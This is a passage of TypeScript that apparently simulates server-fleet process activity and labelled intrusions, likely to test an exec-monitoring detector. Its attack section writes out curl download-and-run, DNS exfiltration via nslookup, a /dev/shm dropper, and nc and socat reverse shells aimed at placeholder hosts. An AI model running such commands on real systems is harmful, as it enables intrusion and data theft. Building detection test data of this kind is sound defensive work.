  [simple("host", "example.net"), 1],
  [
    (_g, h, s) => {
      h.spawn(s.shell, run("ps", "aux"));
      h.spawn(s.shell, run("grep", "--color=auto", "nginx"));
    },
    2,
  ],
  [
    (_g, h, s) => {
      h.spawn(s.shell, run("journalctl", "-u", "nginx", "--since", "1 hour ago"));
      h.spawn(s.shell, run("tail", "-20"));
    },
    1,
  ],
  [
    (_g, h, s) => {
      // sudo is setuid root: the exec of sudo has euid 0, the command it forks runs as root.
      const sudo = h.spawn(s.shell, run("sudo", "systemctl", "status", "nginx"), { euid: 0 });
      h.spawn(sudo, run("systemctl", "status", "nginx"), { uid: 0 });
    },
    2,
  ],
  [
    (_g, h, s) => {
      // git pull: git runs `git fetch`, which runs ssh; both through execvp on the login PATH.
      const pull = h.spawn(s.shell, run("git", "pull"));
      const fetch = h.fork(pull);
      h.execvp(fetch, "git", ["git", "fetch", "--update-head-ok"], USER_PATH, run("git"));
      const ssh = h.fork(fetch);
      h.execvp(
        ssh,
        "ssh",
        ["ssh", "-o", "SendEnv=GIT_PROTOCOL", "git@git.example.com", "git-upload-pack 'shop/api.git'"],
        USER_PATH,
        run("ssh"),
      );
    },
    1,
  ],
  [
    (g, h, s) => {
      // go test: the test binary lives in /tmp/go-build*, a default benign location, and shells out to dig.
      const go = h.spawn(s.shell, run("go", "test", "./..."));
      const work = `/tmp/go-build${g.rng.int(100000000, 999999999)}`;
      h.spawn(
        go,
        image(
          "/usr/local/go/pkg/tool/linux_amd64/compile",
          "/usr/local/go/pkg/tool/linux_amd64/compile",
          [
            "/usr/local/go/pkg/tool/linux_amd64/compile",
            "-o",
            `${work}/b001/_pkg_.a`,
            "-trimpath",
            `${work}/b001=>`,
            "-p",
            "shop/api/dns",
            "-complete",
            "-pack",
            "./resolver.go",
            "./resolver_test.go",
          ],
          STATIC,
        ),
      );
      const test = h.spawn(
        go,
        image(
          `${work}/b001/dns.test`,
          `${work}/b001/dns.test`,
          [`${work}/b001/dns.test`, "-test.paniconexit0", "-test.timeout=10m0s"],
          STATIC,
        ),
      );
      h.spawn(test, run("dig", "+short", "_api._tcp.example.com", "SRV"));
    },
    0.3,
  ],
];

function sshSession(g: Fleet, h: Host): void {
  const s = openShell(g, h, g.rng.pick(SSH_USERS));
  const commands = g.rng.int(3, 12);
  for (let i = 0; i < commands; i++) {
    h.wait(800, 20000);
    g.rng.weighted(INTERACTIVE)(g, h, s);
  }
  h.wait(500, 5000);
  s.close();
  g.endActivity(h);
}

interface CronJob {
  readonly uid: number;
  readonly roles: readonly HostRole[];
  readonly weight: number;
  readonly command: string;
  /** Runs the job in the `/bin/sh -c` process. */
  readonly run: (g: Fleet, h: Host, sh: Proc) => void;
}

const CRON_JOBS: readonly CronJob[] = [
  {
    // A healthcheck an admin left in /tmp: it runs from a writable path, but only talks to loopback.
    uid: 0,
    roles: ["web", "app"],
    weight: 3,
    command: "/tmp/healthcheck.sh",
    run: (_g, h, sh) => {
      h.exec(sh, script("/tmp/healthcheck.sh", "/bin/sh"));
      h.spawn(sh, run("curl", "-fsS", "http://localhost:8080/health"));
    },
  },
  {
    uid: 0,
    roles: ["web", "app", "k8s", "build"],
    weight: 1,
    command: "cd / && run-parts --report /etc/cron.hourly",
    run: (g, h, sh) => {
      const parts = h.exec(sh, run("run-parts", "--report", "/etc/cron.hourly"));
      if (g.rng.chance(0.5)) {
        const rotate = h.spawn(parts, script("/etc/cron.hourly/sysstat-summary", "/bin/sh"));
        h.spawn(rotate, run("find", "/var/log/sysstat", "-type", "f", "-mtime", "+28", "-delete"));
      }
    },
  },
  {
    uid: 0,
    roles: ["app", "k8s"],
    weight: 2,
    command: "/usr/local/bin/check-dns.sh",
    run: (_g, h, sh) => {
      h.exec(sh, script("/usr/local/bin/check-dns.sh", "/bin/bash"));
      h.spawn(sh, run("dig", "+short", "@192.0.2.53", "api.example.com"));
      h.spawn(sh, run("logger", "-t", "check-dns", "api.example.com ok"));
    },
  },
  {
    uid: 0,
    roles: ["web"],
    weight: 1,
    command: "/usr/local/bin/upload-report.sh >/dev/null 2>&1",
    run: (_g, h, sh) => {
      h.exec(sh, script("/usr/local/bin/upload-report.sh", "/bin/bash"));
      h.spawn(sh, run("tar", "czf", "/var/tmp/report.tgz", "/var/log/app"));
      h.spawn(
        sh,
        run(
          "curl",
          "-fsS",
          "-X",
          "POST",
          "--data-binary",
          "@/var/tmp/report.tgz",
          "https://hooks.example.com/report",
        ),
      );
    },
  },
  {
    uid: 33,
    roles: ["web"],
    weight: 3,
    command: "cd /var/www/html && php artisan schedule:run >> /dev/null 2>&1",
    run: (g, h, sh) => {
      const php = h.exec(sh, image("/usr/bin/php", "/usr/bin/php8.2", ["php", "artisan", "schedule:run"]), {
        cwd: "/var/www/html",
      });
      if (g.rng.chance(0.3)) {
        const child = h.spawn(php, shC("sh", "'/usr/bin/php8.2' 'artisan' queue:restart > '/dev/null' 2>&1"));
        h.exec(
          child,
          image("/usr/bin/php8.2", "/usr/bin/php8.2", ["/usr/bin/php8.2", "artisan", "queue:restart"]),
        );
      }
    },
  },
  {
    uid: 1002,
    roles: ["app"],
    weight: 1,
    command: "/home/deploy/bin/rotate-logs.sh",
    run: (g, h, sh) => {
      h.exec(sh, script("/home/deploy/bin/rotate-logs.sh", "/bin/sh"));
      h.spawn(sh, run("find", "/srv/app/logs", "-name", "*.log", "-mtime", "+7", "-delete"));
      h.spawn(sh, run("gzip", "-9", `/srv/app/logs/app-2026-11-${String(g.rng.int(10, 26))}.log`));
    },
  },
  {
    // A Java batch job: its classpath is one argument longer than an EXECVE record holds (aN_len, aN[i]).
    uid: 1002,
    roles: ["app"],
    weight: 0.3,
    command: "/opt/reports/bin/nightly-report.sh",
    run: (_g, h, sh) => {
      h.exec(sh, script("/opt/reports/bin/nightly-report.sh", "/bin/sh"));
      h.exec(
        sh,
        image("/usr/bin/java", "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", [
          "java",
          "-Xmx512m",
          "-cp",
          JAVA_CLASSPATH,
          "com.example.shop.reports.NightlyReport",
          "--date=2026-11-27",
        ]),
      );
    },
  },
  {
    // Cache purge with one long ban expression: blanks and quotes make auditd hex-encode it, in pieces.
    uid: 0,
    roles: ["web"],
    weight: 0.3,
    command: "/usr/local/bin/purge-cache.sh",
    run: (_g, h, sh) => {
      h.exec(sh, script("/usr/local/bin/purge-cache.sh", "/bin/bash"));
      h.spawn(sh, run("varnishadm", "-T", "127.0.0.1:6082", "-S", "/etc/varnish/secret", "ban", VARNISH_BAN));
    },
  },
  {
    // Build hosts only, and last: the other roles draw from the same list as before.
    uid: BUILD_UID,
    roles: ["build"],
    weight: 3,
    command: "/usr/local/bin/prune-builds.sh",
    run: (g, h, sh) => {
      h.exec(sh, script("/usr/local/bin/prune-builds.sh", "/bin/sh"));
      h.spawn(
        sh,
        run("find", "/var/lib/buildkite-agent/builds", "-mindepth", "3", "-maxdepth", "3", "-mtime", "+2"),
      );
      if (g.rng.chance(0.5)) h.spawn(sh, run("du", "-sh", "/var/lib/buildkite-agent/builds"));
    },
  },
];

const JAVA_CLASSPATH = Array.from(
  { length: 260 },
  (_, i) =>
    `/opt/reports/lib/${["shop", "commons", "jackson", "netty", "slf4j"][i % 5]}-module-${i}-2.${i % 17}.${i % 9}.jar`,
).join(":");

const VARNISH_BAN = `req.http.host == "shop.example.com" && req.url ~ "^/(${Array.from(
  { length: 700 },
  (_, i) => `p/${(i * 7919) % 100000}`,
).join("|")})$"`;

/** cron forks a child for the job (no exec), PAM opens a session, the child runs `/bin/sh -c COMMAND`. */
function cronRun(g: Fleet, h: Host, job: { uid: number; command: string }, body: (sh: Proc) => void): void {
  const uid = job.uid;
  const child = h.fork(h.cron!, { uid, euid: uid, auid: uid, ses: h.nextSession(), cwd: account(uid).home });
  g.session(h, child, "open", "cron");
  const sh = h.spawn(child, shC("/bin/sh", job.command));
  body(sh);
  g.session(h, child, "close", "cron");
  g.endActivity(h);
}

function cronJob(g: Fleet, h: Host): void {
  const jobs = CRON_JOBS.filter((j) => j.roles.includes(h.role)).map((j) => [j, j.weight] as const);
  const job = g.rng.weighted(jobs);
  cronRun(g, h, job, (sh) => job.run(g, h, sh));
}

function systemdUnit(g: Fleet, h: Host): void {
  const rng = g.rng;
  const unit = rng.pick(["tmpfiles", "logrotate", "apt", "certbot", "sysstat", "fstrim"] as const);
  switch (unit) {
    case "tmpfiles":
      h.spawn(
        h.init,
        image("/usr/bin/systemd-tmpfiles", "/usr/bin/systemd-tmpfiles", [
          "/usr/bin/systemd-tmpfiles",
          "--clean",
        ]),
      );
      break;
    case "logrotate": {
      const logrotate = h.spawn(
        h.init,
        image("/usr/sbin/logrotate", "/usr/sbin/logrotate", ["/usr/sbin/logrotate", "/etc/logrotate.conf"]),
      );
      if (h.role === "web" || h.role === "app") {
        // Postrotate scripts come with their indentation and newlines: auditd hex-encodes the argument.
        const post = h.spawn(
          logrotate,
          image("/bin/sh", "/usr/bin/dash", [
            "sh",
            "-c",
            "\n\t\tif [ -f /run/nginx.pid ]; then\n\t\t\tkill -USR1 `cat /run/nginx.pid`\n\t\tfi\n\t",
            "logrotate_script",
            "/var/log/nginx/*.log",
          ]),
        );
        h.spawn(post, run("cat", "/run/nginx.pid"));
      }
      break;
    }
    case "apt": {
      const daily = h.spawn(h.init, script("/usr/lib/apt/apt.systemd.daily", "/bin/sh", ["update"]));
      h.spawn(daily, run("apt-config", "shell", "StateDir", "Dir::State"));
      const apt = h.spawn(daily, run("apt-get", "-qq", "-y", "update"));
      for (let i = 0; i < 2; i++) {
        h.spawn(
          apt,
          image("/usr/lib/apt/methods/http", "/usr/lib/apt/methods/http", ["/usr/lib/apt/methods/http"]),
        );
      }
      const gpgv = h.spawn(
        apt,
        image("/usr/lib/apt/methods/gpgv", "/usr/lib/apt/methods/gpgv", ["/usr/lib/apt/methods/gpgv"]),
      );
      const home = `/tmp/apt-key-gpghome.${rng.hex(10)}`;
      h.spawn(
        gpgv,
        image("/usr/bin/gpgv", "/usr/bin/gpgv", [
          "/usr/bin/gpgv",
          "--homedir",
          home,
          "--keyring",
          `${home}/pubring.gpg`,
          "--ignore-time-conflict",
          "--status-fd",
          "3",
          `/tmp/apt.sig.${rng.hex(6)}`,
          `/tmp/apt.data.${rng.hex(6)}`,
        ]),
      );
      break;
    }
    case "certbot":
      h.spawn(
        h.init,
        script("/usr/bin/certbot", "/usr/bin/python3", ["-q", "renew", "--no-random-sleep-on-renew"]),
      );
      break;
    case "sysstat": {
      // debian-sa1 execs sa1, which execs sadc: three images in one pid.
      const sa = h.spawn(h.init, script("/usr/lib/sysstat/debian-sa1", "/bin/sh", ["1", "1"]));
      h.exec(sa, script("/usr/lib/sysstat/sa1", "/bin/sh", ["1", "1"]));
      h.exec(
        sa,
        image("/usr/lib/sysstat/sadc", "/usr/lib/sysstat/sadc", [
          "/usr/lib/sysstat/sadc",
          "-F",
          "-L",
          "-S",
          "DISK",
          "1",
          "1",
          "/var/log/sysstat",
        ]),
      );
      break;
    }
    case "fstrim":
      h.spawn(
        h.init,
        image("/sbin/fstrim", "/usr/sbin/fstrim", [
          "/sbin/fstrim",
          "--listed-in",
          "/etc/fstab:/proc/self/mountinfo",
          "--verbose",
          "--quiet-unsupported",
        ]),
      );
      break;
  }
  g.endActivity(h);
}

function phpRequest(g: Fleet, h: Host): void {
  const rng = g.rng;
  const worker = rng.pick(h.phpWorkers);
  const kind = rng.weighted([
    ["mail", 3],
    ["thumbnail", 4],
    ["git", 1],
  ] as const);
  if (kind === "mail") {
    // PHP's mail(): popen("/usr/sbin/sendmail -t -i ") → sh execs sendmail (exim), which re-execs for delivery.
    const sh = h.spawn(worker, shC("sh", "/usr/sbin/sendmail -t -i "));
    const exim = h.exec(
      sh,
      image("/usr/sbin/sendmail", "/usr/sbin/exim4", ["/usr/sbin/sendmail", "-t", "-i"]),
    );
    h.spawn(
      exim,
      image("/usr/sbin/exim4", "/usr/sbin/exim4", [
        "/usr/sbin/exim4",
        "-Mc",
        `1t${rng.hex(4)}-000${rng.hex(3)}-9Q`,
      ]),
    );
  } else if (kind === "thumbnail") {
    const id = rng.hex(12);
    const from = `/var/www/html/storage/app/uploads/${id}.jpg`;
    const to = `/var/www/html/storage/app/thumbs/${id}.jpg`;
    const sh = h.spawn(worker, shC("sh", `convert '${from}' -resize '800x600>' '${to}'`));
    h.exec(sh, run("convert", from, "-resize", "800x600>", to));
  } else {
    const sh = h.spawn(worker, shC("sh", "git -C /var/www/html rev-parse --short HEAD 2>/dev/null"));
    h.exec(sh, run("git", "-C", "/var/www/html", "rev-parse", "--short", "HEAD"));
  }
  g.endActivity(h);
}

function nodeWork(g: Fleet, h: Host): void {
  const rng = g.rng;
  const node = h.node!;
  const kind = rng.weighted([
    ["git", 2],
    ["ps", 3],
    ["df", 2],
    ["ffprobe", 2],
  ] as const);
  if (kind === "git") {
    // libuv spawns through execvp: each PATH entry before /usr/bin is tried and logged as a failed execve.
    h.execvp(h.fork(node), "git", ["git", "rev-parse", "--short", "HEAD"], SERVICE_PATH, run("git"));
  } else if (kind === "ps") {
    const sh = h.spawn(node, shC("/bin/sh", `ps -o rss= -p ${node.pid}`));
    h.exec(sh, run("ps", "-o", "rss=", "-p", String(node.pid)));
  } else if (kind === "df") {
    const sh = h.spawn(node, shC("/bin/sh", "df -kP /srv/app/uploads | tail -1"));
    h.spawn(sh, run("df", "-kP", "/srv/app/uploads"));
    h.spawn(sh, run("tail", "-1"));
  } else {
    const file = `/srv/app/uploads/${rng.hex(16)}.mp4`;
    const args = ["ffprobe", "-v", "quiet", "-print_format", "json", "-show_format", file];
    h.execvp(
      h.fork(node),
      "ffprobe",
      args,
      SERVICE_PATH,
      image("/usr/bin/ffprobe", "/usr/bin/ffprobe", args),
    );
  }
  g.endActivity(h);
}

function kubeletTick(g: Fleet, h: Host): void {
  const rng = g.rng;
  const kubelet = h.kubelet!;
  const kind = rng.weighted([
    ["iptables", 3],
    ["du", 2],
    ["mount", 1],
  ] as const);
  const pod = `${rng.hex(8)}-${rng.hex(4)}-${rng.hex(4)}-${rng.hex(4)}-${rng.hex(12)}`;
  if (kind === "iptables") {
    for (const table of ["mangle", "nat"]) {
      h.spawn(kubelet, {
        ...run("iptables"),
        args: ["iptables", "-w", "5", "-W", "100000", "-N", "KUBE-KUBELET-CANARY", "-t", table],
      });
    }
  } else if (kind === "du") {
    // nice execs du: two images, one pid.
    const nice = h.spawn(
      kubelet,
      run(
        "nice",
        "-n",
        "19",
        "du",
        "-x",
        "-s",
        "-B",
        "1",
        `/var/lib/kubelet/pods/${pod}/volumes/kubernetes.io~empty-dir/cache`,
      ),
    );
    h.exec(
      nice,
      run("du", "-x", "-s", "-B", "1", `/var/lib/kubelet/pods/${pod}/volumes/kubernetes.io~empty-dir/cache`),
    );
  } else {
    const target = `/var/lib/kubelet/pods/${pod}/volumes/kubernetes.io~projected/kube-api-access-${rng.hex(5)}`;
    const mountArgs = ["mount", "-t", "tmpfs", "-o", "size=268435456", "tmpfs", target];
    const scope = h.spawn(
      kubelet,
      run(
        "systemd-run",
        `--description=Kubernetes transient mount for ${target}`,
        "--scope",
        "--",
        ...mountArgs,
      ),
    );
    h.execvp(scope, "mount", mountArgs, SERVICE_PATH, run("mount"));
  }
  g.endActivity(h);
}

const PROBES: Readonly<Record<ContainerApp, Image>> = {
  "node-api": applet("/usr/bin/wget", ["wget", "-q", "-O", "/dev/null", "http://127.0.0.1:3000/healthz"]),
  redis: image("/usr/local/bin/redis-cli", "/usr/local/bin/redis-cli", ["redis-cli", "ping"], MUSL_LOADER),
  worker: image("/usr/bin/cat", "/usr/bin/cat", ["cat", "/tmp/healthy"]),
};

function execProbe(g: Fleet, h: Host): void {
  const c = g.rng.pick(h.containers);
  const execId = g.rng.hex(64);
  const proc = runcInit(h, c, [
    "exec",
    "--process",
    `/tmp/runc-process${g.rng.int(100000000, 999999999)}`,
    "--detach",
    "--pid-file",
    `/run/containerd/io.containerd.runtime.v2.task/k8s.io/${c.ref.id}/${execId}.pid`,
    c.ref.id,
  ]);
  h.exec(proc, PROBES[c.app]);
  g.endActivity(h);
}

function containerWork(g: Fleet, h: Host): void {
  const c = g.rng.pick(h.containers);
  const main = c.main!;
  if (c.app === "node-api") {
    const sh = h.spawn(main, applet("/bin/sh", ["/bin/sh", "-c", "du -sk /app/uploads"]));
    h.spawn(sh, applet("/usr/bin/du", ["du", "-sk", "/app/uploads"]));
  } else if (c.app === "worker") {
    const job = `/tmp/job-${g.rng.int(1000, 99999)}.pdf`;
    const args = ["pdftotext", job, "-"];
    h.execvp(
      h.fork(main),
      "pdftotext",
      args,
      PYTHON_IMAGE_PATH,
      image("/usr/bin/pdftotext", "/usr/bin/pdftotext", args),
    );
  } else {
    const sh = h.spawn(main, applet("/bin/sh", ["sh", "-c", "redis-cli --rdb /data/dump.rdb"]));
    h.exec(
      sh,
      image(
        "/usr/local/bin/redis-cli",
        "/usr/local/bin/redis-cli",
        ["redis-cli", "--rdb", "/data/dump.rdb"],
        MUSL_LOADER,
      ),
    );
  }
  g.endActivity(h);
}

// ---------------------------------------------------------------------------------------------------------
// Build hosts: CI jobs

/** gcc's private programs (cc1, collect2); `as` is not among them on Debian, so gcc searches PATH for it. */
const GCC_LIBEXEC = "/usr/lib/gcc/x86_64-linux-gnu/12";

interface BuildProject {
  readonly name: string;
  readonly units: readonly string[];
}

const BUILD_PROJECTS: readonly BuildProject[] = [
  { name: "engine", units: ["parser", "lexer", "eval", "gc", "io", "net", "main", "hash", "str", "vec"] },
  { name: "imgproc", units: ["decode", "encode", "resize", "filter", "color", "main", "simd", "tiles"] },
  { name: "kvstore", units: ["btree", "wal", "page", "cache", "server", "client", "crc32", "main"] },
];

/**
 * gcc as a make recipe runs it: the recipe's shell execs the driver (dash does, for the last command of -c),
 * which runs cc1 (a fork of the driver), then `as`, found by execvp on PATH after three misses.
 */
function compile(g: Fleet, h: Host, sh: Proc, unit: string): void {
  const gcc = h.exec(
    sh,
    run("gcc", "-O2", "-g", "-Wall", "-Iinclude", "-MMD", "-c", "-o", `obj/${unit}.o`, `src/${unit}.c`),
  );
  const asm = `/tmp/cc${g.rng.hex(6)}.s`;
  h.spawn(
    gcc,
    image(`${GCC_LIBEXEC}/cc1`, `${GCC_LIBEXEC}/cc1`, [
      `${GCC_LIBEXEC}/cc1`,
      "-quiet",
      "-Iinclude",
      `src/${unit}.c`,
      "-quiet",
      "-dumpbase",
      `${unit}.c`,
      "-mtune=generic",
      "-march=x86-64",
      "-g",
      "-O2",
      "-Wall",
      "-o",
      asm,
    ]),
  );
  const asArgs = ["as", "-v", "--gdwarf-5", "--64", "-o", `obj/${unit}.o`, asm];
  h.execvp(h.fork(gcc), "as", asArgs, SERVICE_PATH, run("as"));
}

/** gcc linking: the driver runs collect2, which runs ld. */
function link(h: Host, parent: Proc, output: string, objects: readonly string[]): void {
  const gcc = h.exec(parent, run("gcc", "-o", output, ...objects, "-lm", "-lpthread"));
  const collect2 = h.spawn(
    gcc,
    image(`${GCC_LIBEXEC}/collect2`, `${GCC_LIBEXEC}/collect2`, [
      `${GCC_LIBEXEC}/collect2`,
      "-plugin",
      `${GCC_LIBEXEC}/liblto_plugin.so`,
      "--build-id",
      "--eh-frame-hdr",
      "-m",
      "elf_x86_64",
      "-pie",
      "-o",
      output,
      ...objects,
      "-lm",
      "-lpthread",
      "-lc",
    ]),
  );
  h.spawn(
    collect2,
    image("/usr/bin/ld", "/usr/bin/x86_64-linux-gnu-ld.bfd", [
      "/usr/bin/ld",
      "-plugin",
      `${GCC_LIBEXEC}/liblto_plugin.so`,
      "--build-id",
      "-m",
      "elf_x86_64",
      "-pie",
      "-o",
      output,
      ...objects,
      "-lm",
      "-lpthread",
      "-lc",
    ]),
  );
}

/**
 * One CI job (Buildkite): the agent runs its bootstrap, which checks the commit out (git and its https
 * helper) and runs the step's command in bash: sometimes a configure run in a subshell (a fork that never
 * execs, and hundreds of forks of its own), `make -j`, whose recipes are `sh -c` running gcc, cc1, as,
 * collect2 and ld, the tests, then tar with gzip. The job's forks without exec are what make a build host
 * go round pid_max within minutes.
 */
function buildJob(g: Fleet, h: Host): void {
  const rng = g.rng;
  const project = rng.pick(BUILD_PROJECTS);
  const dir = `/var/lib/buildkite-agent/builds/${h.name}-1/shop/${project.name}`;
  const jobs = rng.pick([4, 8, 16]);
  const configure = rng.chance(0.5);
  const boot = h.spawn(
    h.agent!,
    image("/usr/bin/buildkite-agent", "/usr/bin/buildkite-agent", ["/usr/bin/buildkite-agent", "bootstrap"]),
    { cwd: dir },
  );
  const fetch = h.spawn(boot, run("git", "fetch", "-v", "--prune", "--", "origin", "main"));
  h.spawn(
    fetch,
    image("/usr/lib/git-core/git-remote-https", "/usr/lib/git-core/git-remote-https", [
      "git-remote-https",
      "origin",
      `https://git.example.com/shop/${project.name}.git`,
    ]),
  );
  h.spawn(boot, run("git", "checkout", "-f", rng.hex(40)));
  h.spawn(boot, run("git", "clean", "-ffxdq"));
  const command =
    `${configure ? "(cd build && ../configure --prefix=/usr) && " : ""}make -j${jobs} all && ` +
    `tar czf build/${project.name}.tgz build/bin`;
  const bash = h.spawn(boot, image("/bin/bash", "/usr/bin/bash", ["/bin/bash", "-e", "-c", command]));

  if (configure) {
    // `( … )` is a subshell: a fork of bash that never execs, the parent of configure.
    const sub = h.fork(bash, { cwd: `${dir}/build` });
    const cfg = h.spawn(sub, script("../configure", "/bin/sh", ["--prefix=/usr"]));
    const checks = rng.int(2, 4);
    for (let i = 0; i < checks; i++) {
      // Command substitutions and subshells by the hundred between two compiler checks.
      h.burn(rng.int(150, 400));
      h.spawn(cfg, rng.pick([run("uname", "-m"), run("cat", "confdefs.h"), run("rm", "-f", "conftest.o")]));
      const cc = h.fork(cfg);
      h.exec(cc, run("gcc", "-o", "conftest", "-g", "-O2", "conftest.c", "-lm"));
      const collect2 = h.spawn(
        cc,
        image(`${GCC_LIBEXEC}/collect2`, `${GCC_LIBEXEC}/collect2`, [
          `${GCC_LIBEXEC}/collect2`,
          "-o",
          "conftest",
        ]),
      );
      h.spawn(
        collect2,
        image("/usr/bin/ld", "/usr/bin/x86_64-linux-gnu-ld.bfd", ["/usr/bin/ld", "-o", "conftest"]),
      );
    }
  }

  const make = h.spawn(bash, run("make", `-j${jobs}`, "all"));
  const units = rng.shuffle([...project.units]).slice(0, rng.int(3, project.units.length));
  for (const unit of units) {
    // make evaluates $(shell …) and $(wildcard …) and forks the recipe's shell: pids go by.
    h.burn(rng.int(5, 40));
    const recipe = h.fork(make);
    const mkdir = rng.chance(0.3);
    const sh = h.exec(
      recipe,
      shC(
        "/bin/sh",
        `${mkdir ? "mkdir -p obj && " : ""}gcc -O2 -g -Wall -Iinclude -MMD -c -o obj/${unit}.o src/${unit}.c`,
      ),
    );
    if (mkdir) h.spawn(sh, run("mkdir", "-p", "obj"));
    compile(g, h, sh, unit);
  }
  const output = `build/bin/${project.name}`;
  const objects = units.map((u) => `obj/${u}.o`);
  link(
    h,
    h.exec(h.fork(make), shC("/bin/sh", `gcc -o ${output} ${objects.join(" ")} -lm -lpthread`)),
    output,
    objects,
  );
  if (rng.chance(0.5)) {
    const test = h.exec(h.fork(make), shC("/bin/sh", `./${output}-test --quick`));
    h.exec(test, image(`./${output}-test`, `${dir}/${output}-test`, [`./${output}-test`, "--quick"]));
  }
  const tar = h.spawn(bash, run("tar", "czf", `build/${project.name}.tgz`, "build/bin"));
  // tar -z runs gzip through execlp: PATH is searched, each miss logged.
  h.execvp(h.fork(tar), "gzip", ["gzip"], SERVICE_PATH, run("gzip"));
  h.spawn(
    boot,
    image("/usr/bin/buildkite-agent", "/usr/bin/buildkite-agent", [
      "/usr/bin/buildkite-agent",
      "artifact",
      "upload",
      `build/${project.name}.tgz`,
    ]),
  );
  g.endActivity(h);
}

type Activity = (g: Fleet, h: Host) => void;

function activitiesFor(h: Host): (readonly [Activity, number])[] {
  const list: (readonly [Activity, number])[] = [
    [sshSession, 0.5],
    [cronJob, 3],
    [systemdUnit, 0.6],
  ];
  if (h.role === "web") list.push([phpRequest, 4]);
  if (h.role === "app") list.push([nodeWork, 4]);
  if (h.role === "k8s") {
    list.push([kubeletTick, 2]);
    if (h.containers.length > 0) list.push([execProbe, 4], [containerWork, 2]);
  }
  if (h.role === "build") list.push([buildJob, 0.6]);
  return list;
}

// ---------------------------------------------------------------------------------------------------------
// Attacks

const C2 = "198.51.100.7";
const SHELL_CATCHER = "203.0.113.5";

const webshellDns = (g: Fleet, h: Host): void => {
  const worker = g.rng.pick(h.phpWorkers);
  // The web shell's system(): fetch a script, run it; dash execs the last command of -c in place.
  const sh = h.spawn(worker, shC("sh", `cd /tmp;curl -fsSo .x.sh http://${C2}/x.sh;chmod +x .x.sh;./.x.sh`), {
    attack: "webshell-dns",
    cwd: "/var/www/html/uploads",
  });
  h.spawn(sh, run("curl", "-fsSo", ".x.sh", `http://${C2}/x.sh`), { attack: "webshell-dns", cwd: "/tmp" });
  h.spawn(sh, run("chmod", "+x", ".x.sh"), { attack: "webshell-dns", cwd: "/tmp" });
  h.exec(sh, script("./.x.sh", "/bin/sh"), { attack: "webshell-dns", cwd: "/tmp" });
  h.spawn(sh, run("hostname"), { attack: "webshell-dns" });
  h.spawn(sh, run("id", "-un"), { attack: "webshell-dns" });
  const sub = h.fork(sh); // $( … | … ) runs in a subshell: a fork, no exec
  h.spawn(sub, run("base64"), { attack: "webshell-dns" });
  h.spawn(sub, run("tr", "-d", "=\n"), { attack: "webshell-dns" });
  const label = Buffer.from(`www-data@${h.name}`).toString("base64").replace(/=+$/, "").replace(/[+/]/g, "-");
  const dns = h.spawn(sh, run("nslookup", `${label}.leak.example`), { attack: "webshell-dns" });
  g.attack({
    kind: "webshell-dns",
    host: h.name,
    pid: dns.pid,
    time: h.now,
    utility: "nslookup",
    location: "/tmp/.x.sh",
    locationKind: "script",
  });
  // A second query for the next chunk: the same utility from the same file is one alert (dedup).
  const chunk = Buffer.from("root:x:0:0:root:/root").toString("hex").slice(0, 40);
  h.spawn(sh, run("nslookup", `${chunk}.1.leak.example`), { attack: "webshell-dns" });
  g.endActivity(h);
};

const shmCurl = (g: Fleet, h: Host): void => {
  const node = h.node!;
  const sh = h.spawn(
    node,
    shC(
      "/bin/sh",
      "echo f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAA|base64 -d>/dev/shm/.kworker;chmod +x /dev/shm/.kworker;/dev/shm/.kworker",
    ),
    { attack: "shm-curl" },
  );
  h.spawn(sh, run("base64", "-d"), { attack: "shm-curl" });
  h.spawn(sh, run("chmod", "+x", "/dev/shm/.kworker"), { attack: "shm-curl" });
  const elf = h.exec(sh, image("/dev/shm/.kworker", "/dev/shm/.kworker", ["/dev/shm/.kworker"], STATIC), {
    attack: "shm-curl",
  });
  const curl = h.spawn(elf, run("curl", "-s", "-o", "/tmp/k", `http://${C2}/k`), { attack: "shm-curl" });
  g.attack({
    kind: "shm-curl",
    host: h.name,
    pid: curl.pid,
    time: h.now,
    utility: "curl",
    location: "/dev/shm/.kworker",
    locationKind: "ancestor",
  });
  h.spawn(elf, image("/tmp/k", "/tmp/k", ["/tmp/k", "-d"], STATIC), { attack: "shm-curl" });
  g.endActivity(h);
};

const busyboxNc = (g: Fleet, h: Host): void => {
  // Persistence through a crontab entry of the web user; the dropped loader hands a shell to the catcher.
  cronRun(g, h, { uid: 33, command: "/var/tmp/run" }, (sh) => {
    const loader = h.exec(sh, image("/var/tmp/run", "/var/tmp/run", ["/var/tmp/run"], STATIC), {
      attack: "busybox-nc",
    });
    const nc = h.spawn(loader, run("busybox", "nc", "-e", "/bin/sh", SHELL_CATCHER, "4444"), {
      attack: "busybox-nc",
    });
    g.attack({
      kind: "busybox-nc",
      host: h.name,
      pid: nc.pid,
      time: h.now,
      utility: "nc",
      location: "/var/tmp/run",
      locationKind: "ancestor",
    });
  });
};

const execChainSocat = (g: Fleet, h: Host): void => {
  const s = openShell(g, h, g.rng.pick(SSH_USERS));
  h.wait(2000, 9000);
  h.spawn(s.shell, run("curl", "-fsSL", "-o", "/tmp/.s", `http://${C2}/s`), { attack: "exec-chain-socat" });
  h.wait(500, 3000);
  h.spawn(s.shell, run("chmod", "+x", "/tmp/.s"), { attack: "exec-chain-socat" });
  h.wait(500, 3000);
  const p = h.spawn(s.shell, script("/tmp/.s", "/bin/bash"), { attack: "exec-chain-socat" });
  // `exec socat …` in the script: the same pid becomes socat.
  h.exec(p, run("socat", `TCP:${SHELL_CATCHER}:443`, "EXEC:/bin/bash -li,pty,stderr,setsid,sigint,sane"), {
    attack: "exec-chain-socat",
  });
  g.attack({
    kind: "exec-chain-socat",
    host: h.name,
    pid: p.pid,
    time: h.now,
    utility: "socat",
    location: "/tmp/.s",
    locationKind: "exec-chain",
  });
  h.wait(1000, 4000);
  s.close();
  g.endActivity(h);
};

const pythonWget = (g: Fleet, h: Host): void => {
  const s = openShell(g, h, g.rng.pick(SSH_USERS));
  h.wait(2000, 9000);
  const py = h.spawn(s.shell, run("python3", "/tmp/p.py"), { attack: "python-wget" });
  // subprocess.run(["wget", …]) searches PATH itself: /usr/local/bin/wget fails first.
  const args = ["wget", "-q", "-O", "/tmp/.cache/t.tgz", `http://${C2}/t.tgz`];
  const wget = h.execvp(h.fork(py), "wget", args, USER_PATH, run("wget"), "python-wget");
  g.attack({
    kind: "python-wget",
    host: h.name,
    pid: wget.pid,
    time: h.now,
    utility: "wget",
    location: "/tmp/p.py",
    locationKind: "script",
  });
  const tarArgs = ["tar", "xzf", "/tmp/.cache/t.tgz", "-C", "/tmp/.cache"];
  h.execvp(h.fork(py), "tar", tarArgs, USER_PATH, run("tar"), "python-wget");
  h.wait(1000, 4000);
  s.close();
